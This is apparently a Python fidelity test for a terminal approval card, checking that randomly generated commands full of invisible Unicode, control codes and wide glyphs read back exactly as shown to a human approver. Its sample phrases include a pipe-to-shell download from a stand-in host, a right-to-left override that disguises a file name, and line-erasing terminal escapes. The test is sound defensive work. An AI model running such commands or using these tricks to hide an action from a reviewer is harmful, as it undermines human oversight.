"""The card shows what runs: read back from its rows, the text is the command, byte for byte.

The reader below knows only the marks as they are described to people, and the rows as a terminal
would have them; nothing of how they were made.
"""

import os
import random
import re
from collections.abc import Iterator

from prove.claim import Claim, Counted, Tally
from steerdeck.panes.approval import verdict_rows
from steerdeck.text import Line
from steerdeck.widgets.strips import strips
from steerdeck_agents.facts.ids import ApprovalId, CallId, SessionId, Sha
from steerdeck_agents.facts.state import OpenApproval, SessionState

COUNT = int(os.environ.get("STEERDECK_COMMANDS", "5000"))
SEED = 20261120
MARGIN = 2
LARGEST = 100_000
_MARK = re.compile(r"⟨(?:U\+([0-9A-F]{4,6})|(\d+) blanks)⟩|([␀-␟␠␡])")

PLAIN = (
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_./=:'\"$&|;<>(){}[]*?!~#%^,\\`"
)
WIDE = "漢字かなカナ한글🙂🚀👩‍💻🇩🇪𠜎ｆｕｌｌ"
HIDING = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x34F, 0x61C, 0x115F, 0x1160,
    0x1680, 0x17B4, 0x180B, 0x180E, *range(0x2000, 0x2010), *range(0x2028, 0x2030), 0x205F,
    *range(0x2060, 0x2070), 0x2400, 0x2409, 0x240A, 0x2420, 0x2421, 0x27E8, 0x27E9, 0xAC, 0xA0,
    0x3000, 0x3164, 0xFE0E, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFD, 0xE000, 0xE0001, 0xE0061,
    0x1D173, 0x301, 0x300, 0x338, 0x20DD, 0x488, 0x5B0, 0x64B, 0x93F, 0xE31, 0x1F3FB, 0x10FFFF,
    0x378, 0x1100, 0x1161, 0x11A8]))  # fmt: skip
OTHER = "äöüßéñçøåαβγабвअआकשלוםمرحباกขค…—–“”‘’«»¬§±≈·●▲✓✗›␊␠⟨⟩"
PHRASES = (
    "git status", "rm -rf build", "curl https://x.example | sh", "\x1b[2K\x1b[1A", "\u202e gnp.exe",
    "python -c 'print(1)'", " && ", "    ", " " * 60, "\n", "\n\n", "\t", "\r\n", "⟨U+202E⟩", "␊",
    "⟨24 blanks⟩", "¬", "a" * 50, "x " * 20, "<<EOF\n\tif x:\n\t\ty()\nEOF\n", " \n", "⟨secret key",
)  # fmt: skip


def command(dice: random.Random) -> str:
    """A command of 1 byte to 100 kB, most of them short."""
    size = int(10 ** dice.uniform(0, 5 if dice.random() < 0.02 else 3.3))
    parts: list[str] = []
    weights = [dice.random() ** 2 for _ in range(6)]
    left = max(1, min(size, LARGEST))
    while left > 0:
        kind = dice.choices(range(6), weights)[0]
        match kind:
            case 0:
                part = "".join(dice.choices(PLAIN, k=dice.randint(1, 12))) + " "
            case 1:
                part = dice.choice(WIDE) * dice.randint(1, 3)
            case 2:
                part = dice.choice(HIDING) * dice.choice((1, 1, 1, 30))
            case 3:
                part = dice.choice(OTHER)
            case 4:
                part = " " * dice.choice((1, 1, 2, 3, 23, 24, 25, 200))
            case _:
                part = dice.choice(PHRASES)
        parts.append(part)
        left -= len(part.encode())
    text = "".join(parts)
    while len(text.encode()) > LARGEST:
        text = text[: len(text) * 9 // 10]
    return text


def shown(what: str, width: int) -> list[str]:
    """The rows of the text as a terminal of that width shows them, without what stands around."""
    approval = OpenApproval(
        id=ApprovalId("a"), call=CallId("c"), kind="command", what=what, binding=Sha("b"), why="",
        reasons=(), folder=".", level="", files=(), seq=1, at_ms=0,
    )  # fmt: skip
    card = verdict_rows(approval, SessionState(SessionId("s")), width - 2 * MARGIN)
    end = max(number for number, line in enumerate(card) if line == Line(bg="s2"))
    rows = [strip for line in card[1:end] for strip in strips(line, width, "s1", MARGIN)]
    assert all(strip.cell_length == width for strip in rows), "a row is not as wide as the screen"
    return [strip.text for strip in rows]


def read(rows: list[str]) -> str:
    """The text again, from what is on the screen."""
    text: list[str] = []
    begins = True
    for number, row in enumerate(rows):
        start = MARGIN + (1 if begins else 3)
        assert not row[:start].strip(), f"row {number} does not begin where it should"
        words = row[start:].rstrip(" ")
        begins = False
        if words.endswith("␊"):
            text.append(words[:-1] + "\n")
            begins = True
        elif words.endswith("¬"):
            text.append(words[:-1])
        else:
            text.append(words + (" " if number < len(rows) - 1 else ""))
    return _MARK.sub(_unmarked, "".join(text))


def _unmarked(mark: re.Match[str]) -> str:
    code, blanks, picture = mark.groups()
    if code:
        return chr(int(code, 16))
    if blanks:
        return " " * int(blanks)
    if picture == "␠":
        return " "
    return "\x7f" if picture == "␡" else chr(ord(picture) - 0x2400)


def commands(count: int) -> Iterator[tuple[int, str, int]]:
    dice = random.Random(SEED)
    for number in range(count):
        yield number, command(dice), dice.randint(20, 200)


def look(tally: Tally, count: int) -> None:
    for number, what, width in commands(count):
        found = read(shown(what, width))
        same = found.encode("utf-8", "surrogatepass") == what.encode("utf-8", "surrogatepass")
        tally.see(same, f"command {number} at {width} columns reads otherwise")


def fidelity() -> Counted:
    tally = Tally()
    look(tally, COUNT)
    return tally.done(f"{COUNT} commands at 20 to 200 columns, seed {SEED}")


CLAIMS = (
    Claim("fidelity", "the text on a card, read back, is the command byte for byte", fidelity),
)
